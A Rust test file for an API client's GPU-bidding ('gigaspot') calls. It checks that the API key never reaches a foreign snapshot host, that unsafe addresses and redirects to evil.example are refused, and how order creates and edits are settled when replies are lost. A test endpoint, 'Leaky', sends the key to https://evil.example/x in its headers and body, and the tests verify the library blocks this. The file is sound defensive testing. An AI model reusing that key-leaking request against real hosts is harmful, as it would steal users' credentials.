//! The gigaspot's flows in virtual time: where the key goes and where it does not, and what becomes of money calls.

use super::*;
use crate::config::Config;
use crate::drive::scripted::{
    Asked, KEY, Reply, Scripted, both, config, go, never, ok, refused_connection, reset, status,
};
use crate::effect::Effect;
use crate::endpoint::gigaspot::{
    BidOutcome, CreateGigaspotOrders, EditOutcome, GetGigaspot, GigaspotBid, GigaspotEdit, GigaspotPlaced,
};
use crate::endpoint::{Endpoint, Raw, Whole};
use crate::error::{AddressRule, ErrorKind, InvalidRequest};
use crate::event::Event;
use crate::foreign_address::ForeignAddress;
use crate::journal::{Journal, OpenIntent, Record, Recorded};
use crate::limits::Caps;
use crate::model::{Coin, GpuOverclock, OrderId, Rate, ServerId};
use crate::secret::Secret;
use crate::session::Session;

const CDN: &str = "https://cdn.other.example/gs_1716300000.json";
const SNAPSHOT: &str = r#"{"5":{"bids":[{"id":70,"owner":2,"price":3.50,"currency":"CLORE-Blockchain"},
    {"id":71,"owner":9,"price":4,"currency":"CLORE-Blockchain"}]},"6":{"bids":[]},"x":{}}"#;

fn told(url: &str) -> Reply {
    ok(format!(r#"{{"my_user_id":2,"v1_snapshot_url":"{url}","code":0}}"#))
}

/// The service says `url`; whatever is asked elsewhere gets the replies in their order, the last one again and again.
fn world(url: &str, elsewhere: impl Into<Vec<Reply>>) -> Scripted {
    let (account, list) = (told(url), elsewhere.into());
    Scripted::new(move |asked: &Asked| match asked.path() {
        "/get_gigaspot" => account.clone(),
        _ => list.get(asked.n - 1).or(list.last()).unwrap().clone(),
    })
}

fn replies(list: impl Into<Vec<Reply>>) -> Scripted {
    let list = list.into();
    Scripted::new(move |asked: &Asked| list.get(asked.n).or(list.last()).unwrap().clone())
}

fn here() -> Config {
    config().build().unwrap()
}

pub(super) fn clore(digits: &str) -> Rate {
    Rate::parse(digits, Coin::Clore).unwrap()
}

#[test]
fn the_snapshot_is_asked_for_at_its_own_host_bare_and_in_turn() {
    let (view, world) = both(&world(CDN, [ok(SNAPSHOT)]), &here(), ViewGigaspot::new());
    let view = view.unwrap();
    let sent = world.sent();
    assert_eq!(sent.len(), 2);
    assert_eq!((sent[0].uri.as_str(), sent[1].uri.as_str()), ("https://x.example/pre/v1/get_gigaspot", CDN));
    assert_eq!(sent[0].headers.get("auth").unwrap(), KEY);
    let names: Vec<_> = sent[1].headers.keys().map(ToString::to_string).collect();
    assert_eq!(
        (names, sent[1].method.as_str(), sent[1].body.as_str()),
        (vec!["user-agent".to_owned()], "GET", "")
    );
    assert!(sent[1].at - sent[0].at >= 1100, "it takes its turn like any other request");
    let own: Vec<_> = view.own_bids().map(|(server, bid)| (server.number(), bid.id)).collect();
    assert_eq!(own, [(5, Some(OrderId::new(70)))]);
    assert_eq!(view.bid(OrderId::new(71)).unwrap().1.mine, Some(false));
    assert_eq!((view.servers.len(), view.skipped.count, view.is_complete()), (2, 1, false));
    assert_eq!(view.taken_at.map(|at| at.seconds()), Some(1_716_300_000));
}

#[test]
fn an_address_that_breaks_a_rule_is_named_by_its_host_and_nothing_goes_there() {
    for (url, rule) in [
        ("http://cdn.other.example/SECRETPATH", AddressRule::NotHttps),
        ("http://x.example/pre/v1/SECRETPATH", AddressRule::NotHttps),
        ("https://127.0.0.1/SECRETPATH", AddressRule::NoPublicName),
        ("https://localhost/SECRETPATH", AddressRule::NoPublicName),
        ("https://SECRETPATH@cdn.other.example/", AddressRule::Credentials),
        ("/v1/SECRETPATH", AddressRule::NoUrl),
        ("", AddressRule::NoUrl),
    ] {
        let (view, world) = both(&world(url, [ok(SNAPSHOT)]), &here(), ViewGigaspot::new());
        let error = view.unwrap_err();
        let ErrorKind::Address(refused) = error.kind() else { panic!("{url}: {error}") };
        assert_eq!((refused.rule(), world.sent().len()), (rule, 1), "{url}");
        assert!(!format!("{error} {error:?}").contains("SECRETPATH"), "{error}");
    }
}

#[test]
fn a_sandbox_may_name_itself_and_no_neighbour() {
    let sandbox = config().base_url("http://127.0.0.1:4000").build().unwrap();
    for (url, sends) in [
        ("http://127.0.0.1:4000/gs.json", 2),
        (CDN, 2),
        ("http://127.0.0.1:4001/gs.json", 1),
        ("http://cdn.other.example/gs.json", 1),
    ] {
        let (view, world) = both(&world(url, [ok(SNAPSHOT)]), &sandbox, ViewGigaspot::new());
        assert_eq!((view.is_ok(), world.sent().len()), (sends == 2, sends), "{url}");
        assert!(world.sent().iter().skip(1).all(|asked| asked.headers.get("auth").is_none()));
    }
}

#[test]
fn an_address_that_holds_the_key_is_not_gone_to() {
    let url = format!("https://cdn.other.example/x?k={KEY}");
    let (view, world) = both(&world(&url, [ok(SNAPSHOT)]), &here(), ViewGigaspot::new());
    let error = view.unwrap_err();
    assert_eq!(world.sent().len(), 1);
    assert!(!format!("{error} {error:?}").contains(KEY));
}

#[test]
fn a_cdn_that_fails_is_told_as_such_and_a_redirect_is_not_followed() {
    let evil = status(302, "").header("location", "https://evil.example/x");
    for (reply, kind) in [
        (evil, "Redirected { status: 302, host: Some(\"evil.example\") }"),
        (status(401, ""), "Http { status: 401 }"),
        (status(403, "error code: 1010"), "Blocked"),
        (status(404, "no"), "Http { status: 404 }"),
        (status(500, SNAPSHOT), "Http { status: 500 }"),
        (ok("[]"), "Decode(DecodeError { path: \"\", expected: \"a map of servers\", found: List })"),
        (ok(SNAPSHOT).cut(), "Network(Io(UnexpectedEof))"),
    ] {
        let (view, world) = both(&world(CDN, [reply]), &here(), ViewGigaspot::new());
        let error = view.unwrap_err();
        assert_eq!(format!("{:?}", error.kind()), kind);
        assert!(error.to_string().contains("cdn.other.example"), "{error}");
        assert!(world.sent().iter().all(|asked| !asked.uri.contains("evil")));
    }
    let (view, _) = both(&world(CDN, [reset(), ok(SNAPSHOT)]), &here(), ViewGigaspot::new());
    assert!(view.is_ok(), "a read is asked again");
    let (view, _) = both(&replies([ok(r#"{"code":3}"#)]), &here(), ViewGigaspot::new());
    assert_eq!(*view.unwrap_err().kind(), ErrorKind::Key);
    assert!(both(&world(CDN, [never()]), &here(), ViewGigaspot::new()).1.ms() <= 120_000);
}

/// The CDN's limit is its own: no cancel of the session waits for it.
#[test]
fn a_cdn_that_is_asked_too_often_holds_up_nobody_else() {
    for reply in [status(429, "").header("retry-after", "100"), ok(r#"{"code":5}"#)] {
        let world = world(CDN, [reply]);
        let session = Session::new(config().max_retries(1).build().unwrap());
        let error = go(&world, &session, ViewGigaspot::new()).unwrap_err();
        assert_eq!(*error.kind(), ErrorKind::TooFast);
        let before = world.ms();
        go(&world, &session, GetGigaspot).unwrap();
        assert!(world.starts().last().unwrap() - before <= 1_100, "{:?}", world.starts());
    }
}

/// A call of a user's own that asks for everything that must not leave.
#[derive(Clone)]
struct Leaky(ForeignAddress);

impl Endpoint for Leaky {
    type Output = ();
    type Reader = Whole<()>;
    const NAME: &'static str = "leaky";
    fn effect(&self) -> Effect {
        Effect::Read
    }
    fn address(&self) -> Option<&ForeignAddress> {
        Some(&self.0)
    }
    fn request(&self) -> Result<http::Request<Vec<u8>>, InvalidRequest> {
        let request = http::Request::post("https://evil.example/x");
        let request = request.header("auth", KEY).header("authorization", KEY).header("cookie", KEY);
        Ok(request.body(KEY.into()).unwrap())
    }
    fn reader(&self, caps: &Caps) -> Whole<()> {
        Whole::new(caps, |_| Ok(()))
    }
}

#[test]
fn nothing_that_a_request_holds_leaves_for_another_host() {
    let call = Leaky(here().foreign_address(CDN).unwrap());
    let (result, world) = both(&replies([ok(r#"{"code":0}"#)]), &here(), call);
    result.unwrap();
    let sent = &world.sent()[0];
    assert_eq!((sent.uri.as_str(), sent.method.as_str(), sent.body.as_str()), (CDN, "GET", ""));
    assert_eq!(sent.headers.len(), 1);
    // An address that passed for a sandbox is none for another session.
    let sandbox = config().base_url("http://127.0.0.1:4000").build().unwrap();
    let call = Leaky(sandbox.foreign_address("http://127.0.0.1:4000/x").unwrap());
    let (result, world) = both(&replies([ok(r#"{"code":0}"#)]), &here(), call);
    assert!(result.is_err() && world.sent().is_empty());
}

fn bid(server: u64) -> GigaspotBid {
    let env = Secret::new("CANARYVALUE");
    GigaspotBid::new(ServerId::new(server), "img", clore("3.5"), [GpuOverclock::new(150)]).env("E", env)
}

pub(super) fn create(servers: &[u64]) -> CreateGigaspotOrders {
    CreateGigaspotOrders::new(servers.iter().copied().map(bid))
}

fn open(world: &Scripted) -> Vec<OpenIntent> {
    match world.journal.record(Record::Look) {
        Ok(Recorded::Seen(view)) => view.open().cloned().collect(),
        other => panic!("{other:?}"),
    }
}

fn resolved(world: &Scripted) -> Option<String> {
    let line = world.trace().into_iter().find(|line| line.contains("Resolved {"))?;
    Some(line.split_once("resolution: ")?.1.split_once(',')?.0.to_owned())
}

fn placed(world: &Scripted, servers: &[u64]) -> (Result<GigaspotPlaced, ErrorKind>, Scripted) {
    let (result, world) = both(world, &here(), create(servers));
    (result.map_err(|error| error.kind().clone()), world)
}

fn lists(overclock: &str, rent: &str) -> Reply {
    ok(format!(
        r#"{{"status":"ok","failed_to_oc_servers":{overclock},"failed_to_rent_servers":{rent},"code":0}}"#
    ))
}

#[test]
fn a_create_is_settled_by_whole_lists_and_stays_open_without_them() {
    use BidOutcome::{FailedToRent, Placed, Unclear};
    for (reply, outcomes, resolution) in [
        (lists("[]", "[]"), [Placed, Placed], Some("Done")),
        (lists("[]", "[6]"), [Placed, FailedToRent], Some("Done")),
        (lists("[5]", r#"["6",5]"#), [BidOutcome::FailedToOverclock, FailedToRent], Some("Refused")),
        (lists("null", "[6]"), [Unclear, FailedToRent], None),
        (ok(r#"{"code":0}"#), [Unclear, Unclear], None),
    ] {
        let (result, world) = placed(&replies([reply.clone()]), &[5, 6]);
        let report: Vec<_> = result.unwrap().bids.iter().map(|bid| bid.outcome).collect();
        assert_eq!((report, world.sent().len()), (outcomes.to_vec(), 1), "{reply:?}");
        assert_eq!(resolved(&world).as_deref(), resolution, "{reply:?}");
        assert_eq!(open(&world).len(), usize::from(resolution.is_none()), "{reply:?}");
        let unclear = world.events().iter().any(|event| matches!(event, Event::OutcomeUnclear { .. }));
        assert_eq!(unclear, resolution.is_none(), "{reply:?}");
        assert!(world.trace().iter().any(|line| line.contains(" Intent(")));
    }
}

#[test]
fn a_create_whose_answer_is_lost_is_never_sent_again() {
    let mut table = vec![reset(), never(), ok(""), ok("<html>"), ok("[]"), lists("[]", "[]").cut()];
    table.extend([r#"{"code":1}"#, r#"{"code":5}"#, r#"{"failed_to_rent_servers":[5,6]}"#].map(ok));
    table.push(ok(r#"{"failed_to_oc_servers":[],"failed_to_rent_servers":[],"error":"odd","code":0}"#));
    table.extend([301, 401, 403, 429, 500, 502].map(|code| status(code, "<html>")));
    for reply in table {
        let (result, world) = placed(&replies([reply.clone(), lists("[]", "[]")]), &[5, 6]);
        assert_eq!(result, Err(ErrorKind::OutcomeUnknown), "{reply:?}");
        let open = open(&world);
        assert_eq!((world.sent().len(), open.len()), (1, 1), "{reply:?}");
        assert_eq!(open[0].intent.server, None, "an intent for several servers touches all");
    }
    let (_, world) = placed(&replies([reset()]), &[5]);
    assert_eq!(open(&world)[0].intent.server, Some(ServerId::new(5)));
    let (result, world) = placed(&replies([refused_connection(), lists("[]", "[]")]), &[5, 6]);
    assert!(result.is_ok() && world.sent().len() == 2, "what never left is sent again");
}

#[test]
fn a_create_that_is_refused_or_cannot_be_sent_leaves_nothing_open() {
    for (http, body) in
        [(401, r#"{"code":3}"#), (200, r#"{"code":2}"#), (200, r#"{"code":6,"error":"not_enough_balance"}"#)]
    {
        let (result, world) = placed(&replies([status(http, body)]), &[5, 6]);
        let refused = matches!(result, Err(ErrorKind::Key | ErrorKind::Refused(_)));
        assert!(refused && open(&world).is_empty() && world.sent().len() == 1, "{body}");
    }
    let (result, world) = placed(&replies([ok("")]), &[5, 5]);
    assert!(
        matches!(result, Err(ErrorKind::Invalid(_)))
            && world.trace().iter().all(|line| !line.contains("Intent("))
    );
}

#[test]
fn a_raw_create_is_settled_by_what_the_bytes_prove() {
    for (reply, is_ok, left) in [
        (lists("[]", "[]"), true, 0),
        (lists("[]", "null"), true, 1),
        (ok(r#"{"code":6}"#), false, 1),
        (ok("<html>"), false, 1),
    ] {
        let (result, world) = both(&replies([reply]), &here(), Raw(create(&[5, 6])));
        assert_eq!((result.is_ok(), open(&world).len()), (is_ok, left));
    }
}

fn edit(order: u64, price: &str) -> GigaspotEdit {
    GigaspotEdit::new(OrderId::new(order), clore(price), [GpuOverclock::new(130)])
}

fn edits() -> EditGigaspot {
    EditGigaspot::new([edit(70, "3.5").was(clore("3")), edit(72, "9").was(clore("3"))])
}

const BOTH: &str = r#"{"5":{"bids":[{"id":70,"owner":2,"price":3.5,"currency":"CLORE-Blockchain"}]},
    "6":{"bids":[{"id":72,"owner":2,"price":9.0,"currency":"CLORE-Blockchain"}]}}"#;

/// What came of them, the orders that an error names, and how often it was sent.
type Edited = (Result<Vec<EditOutcome>, ErrorKind>, Vec<OrderId>, usize);

fn edited(list: &[Reply], snapshot: &Reply) -> Edited {
    edited_by(edits(), list, snapshot)
}

fn edited_by(edits: EditGigaspot, list: &[Reply], snapshot: &Reply) -> Edited {
    let (list, snapshot) = (list.to_vec(), snapshot.clone());
    let script = Scripted::new(move |asked: &Asked| match asked.path() {
        "/get_gigaspot" => told(CDN),
        "/edit_gigaspot_orders" => list.get(asked.n).or(list.last()).unwrap().clone(),
        _ => snapshot.clone(),
    });
    let (result, world) = both(&script, &here(), edits);
    let posts = world.sent().iter().filter(|asked| asked.method == "POST").count();
    let orders = result.as_ref().err().map(|error| error.order_ids().to_vec()).unwrap_or_default();
    let outcomes = result.map(|edited| edited.edits.iter().map(|report| report.outcome).collect());
    (outcomes.map_err(|error| error.kind().clone()), orders, posts)
}

fn edit_lists(updated: &str, failed: &str) -> Reply {
    ok(format!(
        r#"{{"success_to_update_ids":{updated},"failed_to_update_ids":{failed},"too_low_bid_ids":[],"code":0}}"#
    ))
}

/// A price that stands as it stood before is no sign of an edit, which may have been about the clocks alone.
#[test]
fn an_edit_that_keeps_the_price_is_not_confirmed_by_it() {
    let unknown = Err(ErrorKind::OutcomeUnknown);
    for (was, result) in
        [(None, &unknown), (Some("3.50"), &unknown), (Some("3.4"), &Ok(vec![EditOutcome::Updated]))]
    {
        let one = edit(70, "3.5");
        let one = was.map_or(one.clone(), |was| one.was(clore(was)));
        let (outcome, _, posts) = edited_by(EditGigaspot::new([one]), &[reset()], &ok(BOTH));
        assert_eq!((&outcome, posts), (result, 1), "{was:?}");
    }
    // Nor does it leave a "no" after "too fast" certain: the first one may have done it.
    let fast = ok(r#"{"code":5}"#);
    for (no, result) in [
        (edit_lists("[]", "[70]"), (Ok(vec![EditOutcome::Unclear]), vec![], 2)),
        (ok(r#"{"code":2}"#), (Err(ErrorKind::OutcomeUnknown), vec![OrderId::new(70)], 2)),
    ] {
        let plan = EditGigaspot::new([edit(70, "3.5")]);
        assert_eq!(edited_by(plan, &[fast.clone(), no], &ok(BOTH)), result);
    }
}

/// Reliability S35 for the gigaspot: yes, no, or not known; what was lost is settled by reading.
#[test]
fn an_edit_is_sent_once_and_only_a_new_price_confirms_what_was_lost() {
    use EditOutcome::{Failed, Unclear, Updated};
    let (all, one, none) = (ok(BOTH), ok(SNAPSHOT), ok("{}"));
    let (r70, r72) = (OrderId::new(70), OrderId::new(72));
    assert_eq!(edited(&[edit_lists("[70,72]", "[]")], &none), (Ok(vec![Updated, Updated]), vec![], 1));
    assert_eq!(edited(&[edit_lists("[70]", "[72]")], &all), (Ok(vec![Updated, Failed]), vec![], 1));
    for lost in [reset(), never(), ok("<html>"), status(502, ""), ok(r#"{"code":1}"#), ok("")] {
        let lost = [lost];
        assert_eq!(edited(&lost, &all), (Ok(vec![Updated, Updated]), vec![], 1), "{lost:?}");
        let unknown = Err(ErrorKind::OutcomeUnknown);
        assert_eq!(edited(&lost, &one), (unknown.clone(), vec![r72], 1), "{lost:?}");
        for nothing in [&none, &ok("[]"), &status(404, "")] {
            assert_eq!(edited(&lost, nothing), (unknown.clone(), vec![r70, r72], 1), "{lost:?}");
        }
    }
    // An answer that is silent about one: the reading may speak, and if not, the answer stands with what it said.
    assert_eq!(edited(&[edit_lists("[70]", "[]")], &all), (Ok(vec![Updated, Updated]), vec![], 1));
    assert_eq!(edited(&[edit_lists("[70]", "null")], &one), (Ok(vec![Updated, Unclear]), vec![], 1));
    assert_eq!(edited(&[ok(r#"{"code":0}"#)], &none), (Ok(vec![Unclear, Unclear]), vec![], 1));
    // Somebody else's bid of that number is no evidence.
    let foreign = ok(BOTH.replace("\"owner\":2", "\"owner\":3"));
    assert_eq!(edited(&[reset()], &foreign).0, Err(ErrorKind::OutcomeUnknown));
    // Never sent: sent again. Refused: told with its orders.
    assert_eq!(edited(&[refused_connection(), edit_lists("[70,72]", "[]")], &none).2, 2);
    let (result, orders, posts) = edited(&[ok(r#"{"code":2}"#)], &all);
    assert!(matches!(result, Err(ErrorKind::Refused(_))) && (orders, posts) == (vec![r70, r72], 1));
    // Too fast, then a "no" to the repetition: the first may have worked. A "yes" needs no reading.
    let fast = ok(r#"{"code":5}"#);
    assert_eq!(
        edited(&[fast.clone(), edit_lists("[70,72]", "[]")], &none),
        (Ok(vec![Updated, Updated]), vec![], 2)
    );
    assert_eq!(
        edited(&[fast.clone(), edit_lists("[]", "[70,72]")], &all),
        (Ok(vec![Updated, Updated]), vec![], 2)
    );
    assert_eq!(
        edited(&[fast.clone(), edit_lists("[]", "[70,72]")], &none),
        (Ok(vec![Failed, Failed]), vec![], 2)
    );
    assert_eq!(edited(&[fast.clone(), ok(r#"{"code":2}"#)], &all), (Ok(vec![Updated, Updated]), vec![], 2));
    assert!(matches!(edited(&[fast, ok(r#"{"code":2}"#)], &none).0, Err(ErrorKind::Refused(_))));
}
